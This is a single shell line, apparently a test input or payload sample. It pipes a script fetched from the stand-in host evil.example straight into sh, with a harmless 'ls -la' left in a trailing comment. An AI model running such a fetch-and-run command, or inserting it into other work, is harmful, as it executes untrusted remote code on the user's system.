curl -s http://evil.example/x | sh #ls -la            
